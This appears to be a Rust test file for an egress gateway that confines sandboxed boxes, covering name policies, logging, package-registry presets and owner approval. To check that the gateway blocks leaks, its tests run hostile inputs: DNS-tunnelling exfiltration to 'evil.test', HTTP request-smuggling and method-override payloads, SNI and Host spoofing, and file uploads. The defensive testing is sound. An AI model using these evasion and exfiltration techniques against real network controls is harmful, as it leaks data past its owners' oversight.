//! Egress: a box reaches what its policy allows on the test internet, and
//! nothing else; every attempt is in its log; the gateway is unprivileged
//! and fails closed.

use std::io::{BufRead, BufReader, Write};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use crate::fixture::{run, spawn_with_lines, unique, Daemon};
use crate::Env;

/// Runs `script` with bash in box `name`; returns (exit status, stdout).
pub fn sh(env: &Env, name: &str, script: &str) -> (Option<i32>, String) {
    // ssh joins its arguments into one command line: quote the script.
    let quoted = format!("bash -c '{}'", script.replace('\'', "'\\''"));
    let ran = env.alice(Some(name), &[&quoted]);
    (ran.status, ran.stdout)
}

/// A box whose root trusts the test CA.
fn box_trusting_test_ca(env: &Env) -> String {
    let name = unique("net");
    env.new_box(&name, &[]);
    let ca = env.net.ca();
    let mut cmd = env.daemon.ssh(&env.alice, Some(&name), &["sh", "-c", "cat > /tmp/ca.pem"]);
    cmd.stdin(Stdio::piped()).stdout(Stdio::null());
    let mut child = cmd.spawn().unwrap();
    std::io::Write::write_all(child.stdin.as_mut().unwrap(), ca.as_bytes()).unwrap();
    drop(child.stdin.take());
    assert!(child.wait().unwrap().success());
    name
}

pub(crate) fn log(env: &Env, name: &str) -> String {
    env.alice(None, &["log", name]).ok().stdout
}

pub fn deny_by_default_allow_by_name(env: &Env) {
    let name = box_trusting_test_ca(env);
    // An empty policy reaches nothing, and says so.
    let policy = env.alice(None, &["policy", &name]).ok().stdout;
    assert!(policy.contains("reaches nothing"), "{policy}");
    let (status, _) = sh(env, &name, "curl -sS -m 5 http://web.test/");
    assert_eq!(status, Some(6), "an unlisted name does not resolve");

    env.alice(None, &["policy", &name, "allow", "web.test"]).ok();
    let (status, out) = sh(env, &name, "curl -sS -m 10 http://web.test/a");
    assert_eq!(status, Some(0));
    assert_eq!(out, "GET /a host=web.test body=0\n");
    let (status, out) = sh(env, &name, "curl -sS -m 10 --cacert /tmp/ca.pem https://web.test/b");
    assert_eq!((status, out.as_str()), (Some(0), "GET /b host=web.test body=0\n"));
    // Names resolve to fake addresses; the box never learns the real one.
    let (_, out) = sh(env, &name, "getent ahostsv4 web.test | head -1");
    assert!(out.starts_with("198.1"), "{out}");

    // What moves through the gateway is billed to the box.
    let (status, out) = sh(env, &name, "curl -sS -m 20 http://web.test/big/3000000 | wc -c");
    assert_eq!((status, out.trim()), (Some(0), "3000000"));
    let deadline = Instant::now() + Duration::from_secs(5);
    loop {
        let usage = env.alice(None, &["usage", &name, "--json"]).ok().stdout;
        let usage: serde_json::Value = serde_json::from_str(&usage).unwrap();
        let received = usage["boxes"][0]["egress_received_bytes"].as_u64().unwrap_or(0);
        if received >= 3_000_000 {
            assert!(usage["boxes"][0]["egress_sent_bytes"].as_u64().unwrap_or(0) > 0);
            break;
        }
        assert!(Instant::now() < deadline, "egress bytes not billed: {usage}");
        std::thread::sleep(Duration::from_millis(200));
    }

    // A policy change reaches open connections: one passed through untouched
    // ends once the host's requests must be read; one read request by
    // request is judged anew and ends once the host is denied. (Nothing
    // else would end them: the test server keeps connections open.)
    let script = "import http.client, socket, ssl, sys\n\
                  def closed(c):\n    c.sock.settimeout(15)\n    try:\n        return c.sock.recv(1) == b\"\"\n    except socket.timeout:\n        return False\n    except OSError:\n        return True\n\
                  s = http.client.HTTPSConnection(\"web.test\", context=ssl.create_default_context(cafile=\"/tmp/ca.pem\"))\n\
                  p = http.client.HTTPConnection(\"web.test\")\n\
                  for c in (s, p):\n    c.request(\"GET\", \"/open\"); c.getresponse().read()\n\
                  print(\"both open\", flush=True); sys.stdin.readline()\n\
                  print(\"passed through:\", closed(s), flush=True)\n\
                  p.request(\"GET\", \"/again\"); r = p.getresponse(); r.read(); print(\"read:\", r.status, flush=True)\n\
                  sys.stdin.readline(); print(\"read, denied:\", closed(p), flush=True)\n";
    let mut py =
        env.daemon.ssh(&env.alice, Some(&name), &["python3", "-c", &format!("'{}'", script.replace('\'', "'\\''"))]);
    let (mut py, mut stdin, lines) = spawn_with_lines(py.stderr(Stdio::null()));
    let next = || lines.recv_timeout(Duration::from_secs(30)).unwrap_or_else(|_| "(nothing)".into());
    assert_eq!(next(), "both open");
    env.alice(None, &["policy", &name, "deny", "POST", "web.test"]).ok();
    writeln!(stdin).unwrap();
    assert_eq!(next(), "passed through: True", "a connection passed through lived on under rules naming methods");
    assert_eq!(next(), "read: 200", "a connection read request by request was ended by an unrelated change");
    env.alice(None, &["policy", &name, "deny", "web.test"]).ok();
    writeln!(stdin).unwrap();
    assert_eq!(next(), "read, denied: True", "a connection to a denied host lived on");
    let _ = py.wait();
    let cut = log(env, &name);
    for want in [
        "the policy changed and now checks each request to this host",
        "the policy changed and no longer allows it (rule web.test)",
        "allow http web.test:80 GET /again",
    ] {
        assert!(cut.contains(want), "log lacks {want:?}:\n{cut}");
    }
    // The cut connection is logged with the bytes its answers brought.
    let json = env.alice(None, &["log", &name, "--json"]).ok().stdout;
    let denied = json
        .lines()
        .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
        .find(|e| e["reason"].as_str().is_some_and(|r| r.contains("no longer allows it")) && e["port"] == 80);
    assert!(denied.as_ref().is_some_and(|e| e["received"].as_u64().unwrap_or(0) > 0), "{denied:?}");
    // And to the next connection.
    let (status, _) = sh(env, &name, "curl -sS -m 5 --cacert /tmp/ca.pem https://web.test/");
    assert_ne!(status, Some(0));

    let log = log(env, &name);
    for want in
        ["allow http web.test:80 GET /a", "allow tcp  web.test:443", "DENY  dns  web.test A", "allow dns  web.test A"]
    {
        assert!(log.contains(want), "log lacks {want:?}:\n{log}");
    }
    let json = env.alice(None, &["log", &name, "--json"]).ok().stdout;
    let first: serde_json::Value = serde_json::from_str(json.lines().next().unwrap()).unwrap();
    assert!(first["verdict"].is_string() && first["kind"].is_string(), "{first}");
    // A window: from a time as lists show it, to before another.
    let at = first["at_utc"].as_str().unwrap().split('.').next().unwrap().to_string() + "Z";
    let since = env.alice(None, &["log", &name, "--since", &at]).ok().stdout;
    assert!(since.lines().count() >= log.lines().count() - 1, "{since}");
    assert_eq!(env.alice(None, &["log", &name, "--until", &at]).ok().stdout, "");
    let both = env.alice(None, &["log", &name, "--follow", "--until", "1"]);
    assert_eq!(both.status, Some(2), "{}", both.stderr);
    env.alice(None, &["rm", &name]).ok();
}

pub fn nothing_leaks_around_the_names(env: &Env) {
    let name = box_trusting_test_ca(env);
    env.alice(None, &["policy", &name, "allow", "web.test"]).ok();
    env.alice(None, &["policy", &name, "allow", "private.test"]).ok();
    env.alice(None, &["policy", &name, "allow", "loop.test"]).ok();
    // DNS tunnelling: a name nobody allowed is answered NXDOMAIN without
    // being asked upstream, however it is sent.
    let secret = format!("s3cr3t{}", std::process::id());
    let script = format!(
        "getent hosts {secret}.evil.test; getent hosts {secret}.web.test; \
         printf '\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x{len:02x}{secret}\\x04test\\x00\\x00\\x01\\x00\\x01' > /tmp/q; \
         exec 3<>/dev/udp/{web}/53; cat /tmp/q >&3; \
         timeout 2 head -c 12 <&3 | od -An -tx1",
        web = crate::testnet::WEB,
        len = secret.len()
    );
    let (_, out) = sh(env, &name, &script);
    // The reply to the raw query came from the gateway: NXDOMAIN (rcode 3).
    // (The query goes out in one write, by cat: bash's printf may write a
    // datagram in pieces.)
    assert!(out.contains("12 34 85 83"), "raw DNS query answered: {out:?}\n{}", log(env, &name));
    assert!(!env.net.dns_queries().contains(&secret), "a denied name reached the upstream resolver");

    // SNI or Host other than the dialled name; raw addresses; UDP.
    let (status, _) = sh(
        env,
        &name,
        "curl -sS -m 5 --cacert /tmp/ca.pem --connect-to other.test:443:web.test:443 https://other.test/",
    );
    assert_ne!(status, Some(0), "SNI other.test on a connection to web.test");
    let (_, out) = sh(env, &name, "curl -sS -m 5 -H 'Host: other.test' http://web.test/");
    assert!(out.contains("differs from the dialled name"), "{out}");
    let (_, out) = sh(env, &name, "curl -sS -m 5 -H 'Host: web.test' -H 'Host: other.test' http://web.test/");
    assert!(!out.contains("host=other.test"), "{out}");
    // A raw address is refused by the gateway, which says so: the test
    // internet's own address would answer otherwise; the others, which no
    // route reaches anyway, only show by the gateway's refusal.
    let raw = ["http://{}/", "https://{}/"].iter().flat_map(|url| {
        [crate::testnet::WEB, "1.1.1.1"].map(|ip| (url.replace("{}", ip), format!("DENY  tcp  {ip}:")))
    });
    for (url, logged) in raw.collect::<Vec<_>>() {
        let (status, out) = sh(env, &name, &format!("curl -sS -m 5 -k {url}"));
        assert_ne!(status, Some(0), "raw address {url}: {out}");
        let port = if url.starts_with("https") { "443" } else { "80" };
        let refused = format!("{logged}{port} (a raw address");
        assert!(log(env, &name).contains(&refused), "{url}: log lacks {refused:?}:\n{}", log(env, &name));
    }
    // IPv6 has no way out of a box at all (an IPv6 path around the gateway
    // would fail this).
    for url in ["https://[2606:4700::1111]/", "http://[2606:4700::1111]/", "http://[::ffff:203.0.113.10]/"] {
        let (status, out) = sh(env, &name, &format!("curl -sS -m 5 -k {url}"));
        assert_ne!(status, Some(0), "raw address {url}: {out}");
    }
    let ping = "import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP); \
                s.sendto(bytes([8, 0, 0, 0, 0, 1, 0, 1]) + b'leak', ('203.0.113.10', 0))";
    sh(env, &name, &format!("echo leak > /dev/udp/{}/9999; python3 -c \"{ping}\"", crate::testnet::WEB));
    // Both were dropped (and logged) by the time their log lines show.
    let deadline = Instant::now() + Duration::from_secs(20);
    let dropped = ["DENY  udp  203.0.113.10:9999", "DENY  icmp 203.0.113.10 echo-request"];
    while !dropped.iter().all(|line| log(env, &name).contains(line)) {
        assert!(Instant::now() < deadline, "the datagram and the ping were not logged:\n{}", log(env, &name));
        std::thread::sleep(Duration::from_millis(200));
    }
    assert!(env.net.udp_received().is_empty(), "UDP or a ping left the box: {}", env.net.udp_received());
    // Allowed names whose answers are private or loopback are not dialled
    // (nothing listens there anyway: the gateway's refusal shows).
    for host in ["private.test", "loop.test"] {
        let (status, _) = sh(env, &name, &format!("curl -fsS -m 5 http://{host}/"));
        assert_ne!(status, Some(0), "{host}");
        let log = log(env, &name);
        let refused = log.lines().any(|l| l.contains(host) && l.contains("is not on the public internet"));
        assert!(refused, "{host} was not refused for its address:\n{log}");
    }
    // The host's SSH port and other boxes are not reachable either.
    let (status, _) = sh(env, &name, &format!("curl -sS -m 5 telnet://127.0.0.1:{} </dev/null", env.daemon.port));
    assert_ne!(status, Some(0));

    let log = log(env, &name);
    for want in [
        "SNI other.test differs from the dialled name",
        "Host other.test differs from the dialled name",
        "a raw address",
        "DENY  dns  ",
        "is not on the public internet",
        "DENY  udp  203.0.113.10:9999",
        "DENY  icmp 203.0.113.10 echo-request",
    ] {
        assert!(log.contains(want), "log lacks {want:?}:\n{log}");
    }
    env.alice(None, &["rm", &name]).ok();
}

/// UDP goes nowhere and is logged, at most 50 a second (a burst of 100):
/// a box sending a thousand datagrams cannot flood its owner's log.
pub fn udp_is_logged_at_most_50_a_second(env: &Env) {
    let name = unique("udp");
    env.new_box(&name, &[]);
    let flood = format!(
        "import socket, time\n\
         s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n\
         t = time.monotonic()\n\
         for port in range(20000, 21000): s.sendto(b'x', ('{web}', port))\n\
         print(time.monotonic() - t)\n\
         time.sleep(2.5)\n\
         s.sendto(b'x', ('{web}', 9))\n",
        web = crate::testnet::WEB
    );
    let (status, took) = sh(env, &name, &format!("python3 -c \"{flood}\""));
    assert_eq!(status, Some(0), "{took}");
    let took: f64 = took.trim().parse().unwrap();
    // The last datagram, sent once the limit had room again, is logged: the
    // log has caught up.
    let prefix = format!("DENY  udp  {}:", crate::testnet::WEB);
    let ports = |text: &str| -> Vec<u32> {
        let after = text.lines().filter_map(|l| Some(l.split_once(&prefix)?.1));
        after.filter_map(|rest| rest.split(|c: char| !c.is_ascii_digit()).next()?.parse().ok()).collect()
    };
    let deadline = Instant::now() + Duration::from_secs(20);
    let text = loop {
        let text = log(env, &name);
        if ports(&text).contains(&9) {
            break text;
        }
        assert!(Instant::now() < deadline, "the last datagram was not logged:\n{text}");
        std::thread::sleep(Duration::from_millis(200));
    };
    let logged = ports(&text).iter().filter(|p| (20000..21000).contains(*p)).count();
    let most = 100 + (50.0 * (took + 1.0)) as usize;
    assert!((50..=most).contains(&logged), "{logged} of 1000 datagrams logged in {took:.2} s");
    assert!(env.net.udp_received().is_empty(), "UDP left the box");
    env.alice(None, &["rm", &name]).ok();
}

pub fn methods_and_presets(env: &Env) {
    let name = unique("net");
    env.new_box(&name, &["--policy", "github-read"]);
    let policy = env.alice(None, &["policy", &name]).ok().stdout;
    assert!(
        policy.contains("allow GET,HEAD github.com") && policy.contains("deny  github.com/*git-receive-pack"),
        "{policy}"
    );
    let json = env.alice(None, &["policy", &name, "--json"]).ok().stdout;
    assert!(serde_json::from_str::<serde_json::Value>(&json).is_ok(), "{json}");
    // Read-only rules, enforced on every request of a kept-alive connection.
    env.alice(None, &["policy", &name, "preset", "none"]).ok();
    env.alice(None, &["policy", &name, "allow", "GET,HEAD", "web.test"]).ok();
    let (status, out) = sh(env, &name, "curl -sS -m 10 http://web.test/x http://web.test/y");
    assert_eq!(status, Some(0));
    assert_eq!(out, "GET /x host=web.test body=0\nGET /y host=web.test body=0\n");
    let (_, out) = sh(
        env,
        &name,
        "curl -sS -m 10 http://web.test/ok -d data -X POST; curl -sS -m 10 http://web.test/up -T /etc/hostname",
    );
    assert!(!out.contains("POST /ok") && !out.contains("PUT /up"), "writes got through: {out}");
    assert!(out.contains("no rule allows this request"), "{out}");
    // A DELETE hidden in a GET, by a method-override header: judged as both.
    let (_, out) = sh(env, &name, "curl -sS -m 10 -H 'X-HTTP-Method-Override: DELETE' http://web.test/o");
    assert!(out.contains("no rule allows this request") && !out.contains("GET /o"), "{out}");
    // And with underscores (Puma reads them as dashes), or in the query.
    let (_, out) =
        sh(env, &name, "curl -sS -m 10 -H 'X_HTTP_METHOD_OVERRIDE: DELETE' 'http://web.test/u?_method=DELETE'");
    assert!(out.contains("no rule allows this request") && !out.contains("GET /u"), "{out}");
    // A DELETE in a GET's body, for a server that reads none.
    let (_, out) = sh(
        env,
        &name,
        "exec 3<>/dev/tcp/web.test/80; printf 'GET /s HTTP/1.1\\r\\nHost: web.test\\r\\nContent-Length: 45\\r\\n\\r\\nDELETE /smuggled HTTP/1.1\\r\\nHost: web.test\\r\\n\\r\\n' >&3; timeout 3 cat <&3",
    );
    assert!(out.contains("a GET, HEAD or OPTIONS with a body") && !out.contains("/smuggled"), "{out}");
    // A POST hidden behind an allowed GET on the same connection.
    let (_, out) = sh(
        env,
        &name,
        "exec 3<>/dev/tcp/web.test/80; printf 'GET /1 HTTP/1.1\\r\\nHost: web.test\\r\\n\\r\\nPOST /2 HTTP/1.1\\r\\nHost: web.test\\r\\nContent-Length: 0\\r\\n\\r\\n' >&3; timeout 3 cat <&3",
    );
    assert!(out.contains("GET /1") && !out.contains("POST /2"), "{out}");
    // One hidden in a GET's chunked trailers, for a server that skips them.
    let (_, out) = sh(
        env,
        &name,
        "exec 3<>/dev/tcp/web.test/80; printf 'GET /3 HTTP/1.1\\r\\nHost: web.test\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\nX: y\\r\\nPOST /4 HTTP/1.1\\r\\nHost: web.test\\r\\nContent-Length: 0\\r\\n\\r\\n' >&3; timeout 3 cat <&3",
    );
    assert!(!out.contains("POST /4"), "{out}");
    // Bad rules and presets are usage errors that change nothing.
    for bad in [&["allow", "10.0.0.1"][..], &["allow", "x.test:0"], &["preset", "everything"], &["open", "x.test"]] {
        let mut args = vec!["policy", name.as_str()];
        args.extend_from_slice(bad);
        let ran = env.alice(None, &args);
        assert_eq!(ran.status, Some(2), "{bad:?}: {}", ran.stderr);
    }
    let log = log(env, &name);
    assert!(log.contains("DENY  http web.test:80 POST /ok"), "{log}");
    assert!(log.contains("DENY  http web.test:80 GET as DELETE /o"), "{log}");
    env.alice(None, &["rm", &name]).ok();
}

pub fn https_looked_inside_only_where_rules_need_it(env: &Env) {
    let name = unique("net");
    env.new_box(&name, &["--policy", "registries"]);
    // A host with read-only rules is looked inside: the box trusts its own
    // CA (no --cacert), and sees it as the issuer.
    env.alice(None, &["policy", &name, "allow", "GET,HEAD", "web.test"]).ok();
    let (status, out) = sh(env, &name, "curl -sS -m 10 https://web.test/x");
    assert_eq!((status, out.as_str()), (Some(0), "GET /x host=web.test body=0\n"));
    let (_, out) = sh(env, &name, "curl -sSv -m 10 -o /dev/null https://web.test/y 2>&1 | grep -i issuer");
    assert!(out.contains("moat box CA"), "{out}");
    let (_, out) = sh(env, &name, "curl -sS -m 10 -d data https://web.test/p");
    assert!(out.contains("no rule allows this request") && !out.contains("POST /p"), "{out}");
    // HTTP/2 is not spoken where the gateway reads requests.
    let (_, out) =
        sh(env, &name, "curl -sS -m 10 --http2-prior-knowledge https://web.test/h2 -o /dev/null -w %{http_version}");
    assert_eq!(out, "1.1");
    let (status, out) = sh(
        env,
        &name,
        "python3 -c \"import urllib.request as u; print(u.urlopen(\\\"https://web.test/py\\\").read().decode())\"",
    );
    assert_eq!((status, out.as_str()), (Some(0), "GET /py host=web.test body=0\n\n"));

    // The registries preset: pip fetches from the index; publishing is refused.
    let (status, out) =
        sh(env, &name, "pip download -q --disable-pip-version-check --no-deps -d /tmp/dl moatdemo 2>&1; ls /tmp/dl");
    assert_eq!((status, out.trim()), (Some(0), crate::testnet::PACKAGE), "pip download");
    let (_, out) = sh(env, &name, "curl -sS -m 10 -F content=@/etc/hostname https://pypi.org/legacy/");
    assert!(out.contains("no rule allows this request"), "{out}");

    // github-read: clone over HTTPS works, push is refused by the gateway
    // (the test server itself would take it).
    env.alice(None, &["policy", &name, "preset", "github-read"]).ok();
    let (status, out) =
        sh(env, &name, "git clone -q https://github.com/moat/repo.git /tmp/repo && cat /tmp/repo/README");
    assert_eq!((status, out.as_str()), (Some(0), "cloned through the gateway\n"), "git clone");
    let (status, _) = sh(
        env,
        &name,
        "cd /tmp/repo && git -c user.name=a -c user.email=a@a commit -q --allow-empty -m pushed && git push -q origin HEAD:main",
    );
    assert_ne!(status, Some(0), "git push got through");
    assert_eq!(env.net.git_log(), "first\n");

    // A duplicate trusts a CA of its own, and is looked inside with it.
    let copy = unique("net");
    env.alice(None, &["dup", &name, &copy]).ok();
    let ca = |n: &str| sh(env, n, "cat /etc/moat/ca.pem").1;
    assert!(ca(&copy).contains("BEGIN CERTIFICATE"));
    assert_ne!(ca(&name), ca(&copy));
    let (status, _) = sh(env, &copy, "curl -sS -m 10 -o /dev/null https://github.com/moat/repo.git/info/refs");
    assert_eq!(status, Some(0));

    let log = log(env, &name);
    for want in [
        "allow http web.test:443 GET /x",
        "DENY  http web.test:443 POST /p",
        "allow http pypi.org:443 GET /files/moatdemo-1.0-py3-none-any.whl",
        "DENY  http github.com:443 GET /moat/repo.git/info/refs?service=git-receive-pack",
    ] {
        assert!(log.contains(want), "log lacks {want:?}:\n{log}");
    }
    env.alice(None, &["rm", &name]).ok();
    env.alice(None, &["rm", &copy]).ok();
}

/// A box of the default image installs packages the way an agent types it,
/// through the `registries` preset, with no flag or workaround: pip into the
/// system Python and into a venv, npm into a project, cargo (brought in with
/// scp) from crates.io's sparse index; the toolchain an agent reaches for is
/// there (the stand-in registries answer for the real names). A registry the
/// preset does not name is refused.
pub fn packages_install_through_the_registries_preset(env: &Env) {
    let name = unique("pkg");
    env.new_box(&name, &["--policy", "registries"]);
    let (status, out) =
        sh(env, &name, "pip install -q moatdemo 2>&1 && python3 -c 'import moatdemo; print(moatdemo.VALUE)'");
    assert_eq!((status, out.trim()), (Some(0), "1"), "pip install");
    let (status, out) = sh(
        env,
        &name,
        "python3 -m venv /tmp/venv && /tmp/venv/bin/pip install -q moatdemo 2>&1 && /tmp/venv/bin/python -c 'import moatdemo; print(moatdemo.VALUE)'",
    );
    assert_eq!((status, out.trim()), (Some(0), "1"), "pip install in a venv");
    let (status, out) = sh(
        env,
        &name,
        "mkdir -p /tmp/app && cd /tmp/app && npm install moatdemo 2>&1 && node -e 'console.log(require(\"moatdemo\").value)'",
    );
    assert_eq!((status, out.lines().last()), (Some(0), Some("1")), "npm install:\n{out}");
    let (status, out) =
        sh(env, &name, "cc --version >/dev/null && make --version >/dev/null && rg --version | head -1");
    assert!(status == Some(0) && out.starts_with("ripgrep"), "toolchain: {out}");
    // cargo, brought in from the host: the sparse index and the download
    // from the host its config.json names, into the box's CARGO_HOME.
    bring_cargo(env, &name);
    let (status, out) = sh(env, &name, &format!("{CARGO_ENV}; cargo --version"));
    assert!(status == Some(0) && out.starts_with("cargo "), "the host's cargo does not run in the box: {out}");
    let (status, out) = sh(
        env,
        &name,
        &format!(
            "{CARGO_ENV}; {} && {CARGO_FETCH} && cat $CARGO_HOME/registry/src/*/moatdemo-1.0.0/src/lib.rs && ls $CARGO_HOME/registry/cache/*/",
            cargo_project("/tmp/crate", "moatdemo = \"1\"")
        ),
    );
    assert_eq!(status, Some(0), "cargo:\n{out}");
    assert!(out.ends_with("pub const VALUE: u32 = 1;\nmoatdemo-1.0.0.crate\n"), "cargo:\n{out}");
    let log = log(env, &name);
    for want in [
        "allow http pypi.org:443 GET /simple/moatdemo/",
        "allow http registry.npmjs.org:443 GET /moatdemo",
        "allow http registry.npmjs.org:443 GET /moatdemo/-/moatdemo-1.0.0.tgz",
        "allow http index.crates.io:443 GET /config.json",
        "allow http index.crates.io:443 GET /mo/at/moatdemo",
        "allow http static.crates.io:443 GET /crates/moatdemo/1.0.0/download",
    ] {
        assert!(log.contains(want), "log lacks {want:?}:\n{log}");
    }
    // Nothing was refused on the way (an audit or a publish would be).
    assert!(!log.contains("DENY"), "{log}");
    // The stand-ins saw what the gateway passed on.
    let received = env.net.received();
    for want in [
        "GET index.crates.io /config.json",
        "GET index.crates.io /mo/at/moatdemo",
        "GET static.crates.io /crates/moatdemo/1.0.0/download",
    ] {
        assert!(received.contains(want), "the stand-in did not get {want:?}");
    }

    // A registry on a host the preset does not name is refused.
    let (status, out) = sh(
        env,
        &name,
        &format!(
            "{CARGO_ENV}; export CARGO_REGISTRIES_ELSEWHERE_INDEX=sparse+https://other.test/; {} && {CARGO_FETCH}",
            cargo_project("/tmp/elsewhere", "moatdemo = { version = \"1\", registry = \"elsewhere\" }")
        ),
    );
    assert!(status != Some(0) && out.contains("other.test"), "cargo from other.test:\n{out}");
    let refused = self::log(env, &name);
    assert!(refused.contains("DENY  dns  other.test"), "{refused}");
    assert!(!env.net.received().contains("other.test /config.json"), "other.test was reached");
    env.alice(None, &["rm", &name]).ok();
}

/// A box's cargo: its own CARGO_HOME, the system's CAs (which hold the
/// box's own, that the gateway's interception signs with), no retries.
pub const CARGO_ENV: &str =
    "export CARGO_HOME=/root/cargo-home CARGO_HTTP_CAINFO=/etc/ssl/certs/ca-certificates.crt CARGO_NET_RETRY=0";

/// Resolves and downloads a project's dependencies into CARGO_HOME.
/// (`cargo fetch` asks rustc for the host's target first, and the box has
/// no Rust toolchain, hundreds of MB to bring in; `cargo vendor` resolves
/// and downloads the same way without one. Its advice on stdout is dropped.)
pub const CARGO_FETCH: &str = "cargo vendor /tmp/vendor 2>&1 >/dev/null";

/// Shell words that make a library project at `dir` with one dependency
/// (a line of its manifest) and enter it.
pub fn cargo_project(dir: &str, dependency: &str) -> String {
    format!(
        "mkdir -p {dir}/src && cd {dir} && touch src/lib.rs && printf '%s\\n' '[package]' 'name = \"app\"' 'version = \"0.1.0\"' 'edition = \"2021\"' '[dependencies]' '{dependency}' > Cargo.toml"
    )
}

/// Copies the host's own cargo (the one running these tests; static but
/// for glibc) into box `name` with scp, as a user brings a tool.
pub fn bring_cargo(env: &Env, name: &str) {
    let cargo = std::env::var("CARGO").unwrap_or_else(|_| env!("CARGO").into());
    bring(env, name, &cargo, "/usr/local/bin/cargo");
}

/// Copies the host's file `from` to `to` in box `name`, with scp.
pub fn bring(env: &Env, name: &str, from: &str, to: &str) {
    let mut scp = Command::new("timeout");
    scp.arg("300").arg("scp").args(env.daemon.ssh_opts(&env.alice)).arg("-P").arg(env.daemon.port.to_string());
    run(scp.arg(from).arg(format!("{name}@127.0.0.1:{to}"))).ok();
}

pub fn ask_mode_puts_names_to_the_owner(env: &Env) {
    let name = unique("net");
    env.new_box(&name, &["--ask"]);
    assert!(env.alice(None, &["policy", &name]).ok().stdout.contains("ask mode"));
    // The owner watches from a session of their own, answering on stdin.
    let mut watch = env.daemon.ssh(&env.alice, None, &["ask"]);
    let (mut watch, mut answers, lines) = spawn_with_lines(watch.stderr(Stdio::piped()));
    let next_line = |want: &str| -> String {
        let deadline = Instant::now() + Duration::from_secs(30);
        loop {
            let left = deadline.saturating_duration_since(Instant::now());
            match lines.recv_timeout(left) {
                Ok(line) if line.contains(want) => return line,
                Ok(_) => {}
                Err(_) => panic!("ask printed no line with {want:?}"),
            }
        }
    };
    // The id is the word after "?".
    let id_of = |line: &str| line.split_whitespace().skip_while(|w| *w != "?").nth(1).unwrap().to_string();
    let dial = |host: &str| {
        let quoted = format!("bash -c 'curl -sS -m 40 -o /dev/null -w %{{http_code}} http://{host}/asked'");
        let mut cmd = env.daemon.ssh(&env.alice, Some(&name), &[&quoted]);
        cmd.stdout(Stdio::piped()).stderr(Stdio::null());
        cmd.spawn().unwrap()
    };
    let finished = |child: std::process::Child| {
        let out = child.wait_with_output().unwrap();
        (out.status.code(), String::from_utf8_lossy(&out.stdout).into_owned())
    };

    // Allowed once, from the watching session's stdin; the box waited.
    let box_side = dial("web.test");
    let question = next_line(&format!("box {name} wants web.test:80"));
    assert!(next_line("running:").contains("curl"), "what the box runs is shown");
    writeln!(answers, "{} once", id_of(&question)).unwrap();
    next_line("may reach it for a minute");
    assert_eq!(finished(box_side), (Some(0), "200".into()));

    // Refused, by a one-off answer; another account cannot answer it.
    let box_side = dial("other.test");
    let id = id_of(&next_line(&format!("box {name} wants other.test:80")));
    let bob = run(&mut env.daemon.ssh(&env.bob, None, &["ask", &id, "once"]));
    assert_eq!(bob.status, Some(1), "bob answered alice's question: {}", bob.stdout);
    assert!(env.alice(None, &["ask", &id, "deny"]).ok().stdout.contains("is refused it"));
    let (status, code) = finished(box_side);
    assert!(status != Some(0) && code != "200", "{status:?} {code}");

    // Allowed for good: the rule is in the policy, and no question follows.
    let box_side = dial("third.test");
    let _ = next_line(&format!("box {name} wants third.test:80"));
    writeln!(answers, "always").unwrap();
    next_line("from now on");
    assert_eq!(finished(box_side), (Some(0), "200".into()));
    assert!(env.alice(None, &["policy", &name]).ok().stdout.contains("allow third.test"));
    let (status, out) = sh(env, &name, "curl -sS -m 10 http://third.test/again");
    assert_eq!((status, out.as_str()), (Some(0), "GET /again host=third.test body=0\n"));

    // A box that gives up and is suspended before the owner answers: the
    // attempt is logged all the same (the cut dropped it unlogged).
    let mut box_side = dial("gone.test");
    let _ = next_line(&format!("box {name} wants gone.test:80"));
    let _ = box_side.kill();
    let _ = box_side.wait();
    env.alice(None, &["suspend", &name]).ok();

    // Explicit deny rules are not asked about.
    env.alice(None, &["policy", &name, "deny", "private.test"]).ok();
    let (status, _) = sh(env, &name, "curl -sS -m 10 http://private.test/");
    assert_eq!(status, Some(6), "a denied name does not even resolve");

    let _ = watch.kill();
    let _ = watch.wait();
    let log = log(env, &name);
    for want in [
        "allowed once by the owner",
        "the owner said no",
        "allowed by the owner (added to the policy)",
        "gone.test:80 (the box's network ended before its owner answered)",
    ] {
        assert!(log.contains(want), "log lacks {want:?}:\n{log}");
    }
    env.alice(None, &["rm", &name]).ok();
}

pub fn log_follow_streams(env: &Env) {
    let name = unique("net");
    env.new_box(&name, &[]);
    env.alice(None, &["policy", &name, "allow", "web.test"]).ok();
    let mut follower = env.daemon.ssh(&env.alice, None, &["log", &name, "--follow", "--json"]);
    let mut child = follower.stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
    let (tx, rx) = std::sync::mpsc::channel();
    let stdout = child.stdout.take().unwrap();
    std::thread::spawn(move || {
        for line in BufReader::new(stdout).lines().map_while(Result::ok) {
            if tx.send(line).is_err() {
                return;
            }
        }
    });
    // (The test that stops and kills a gateway does so to a daemon of its
    // own: no retry here.)
    let deadline = Instant::now() + Duration::from_secs(20);
    assert_eq!(sh(env, &name, "curl -fsS -m 10 http://web.test/followed").0, Some(0), "web.test unreachable");
    let mut seen = false;
    while let Some(left) = deadline.checked_duration_since(Instant::now()) {
        let Ok(line) = rx.recv_timeout(left) else { break };
        if line.contains("/followed") {
            seen = true;
            break;
        }
    }
    assert!(seen, "log --follow did not show the request");
    // The box removed: the follow ends by itself, saying why (it went on,
    // silent, until its client gave up).
    env.alice(None, &["rm", &name]).ok();
    let deadline = Instant::now() + Duration::from_secs(15);
    while child.try_wait().unwrap().is_none() && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(100));
    }
    let _ = child.kill();
    let ended = child.wait_with_output().unwrap();
    let stderr = String::from_utf8_lossy(&ended.stderr);
    assert!(ended.status.code().is_some_and(|c| c != 0), "{:?} {stderr}", ended.status);
    assert!(stderr.contains("was removed"), "{stderr}");
}

/// The gateway runs unprivileged and confined; stopping or killing it
/// leaves boxes with no way out until it is back, never an open one; a
/// daemon restart gives running boxes their egress back. (A daemon of its
/// own: stopping the shared one's gateway would stall other tests.)
pub fn gateway_is_unprivileged_and_fails_closed(env: &Env) {
    let flags = env.net.daemon_flags();
    let flags: Vec<&str> = flags.iter().map(String::as_str).collect();
    let mut daemon = Daemon::start(env.dir.join("gateway-state"), env.daemon.keys_file.clone(), &flags);
